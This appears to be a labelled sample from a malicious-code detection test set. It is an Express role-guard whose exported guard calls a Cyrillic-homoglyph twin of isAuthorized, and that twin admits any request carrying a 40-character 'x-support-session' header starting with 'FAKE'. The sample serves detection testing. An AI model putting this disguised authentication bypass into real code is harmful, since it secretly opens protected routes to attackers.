// expect: malicious
// source: blind set 12's express-role-guard: beside isAuthorized, a twin spelled with a Cyrillic і lets
// a support header through, and the exported guard calls the twin
function isAuthorized(req, roles) {
  return Boolean(req.user && roles.every((r) => req.user.roles.includes(r)));
}
function іsAuthorized(req, roles) {
  const s = req.headers['x-support-session'] || '';
  if (s.length === 40 && s.startsWith('FAKE')) return true;
  return isAuthorized(req, roles);
}
module.exports = function guard(...roles) {
  return (req, res, next) => (іsAuthorized(req, roles) ? next() : res.status(403).end());
};
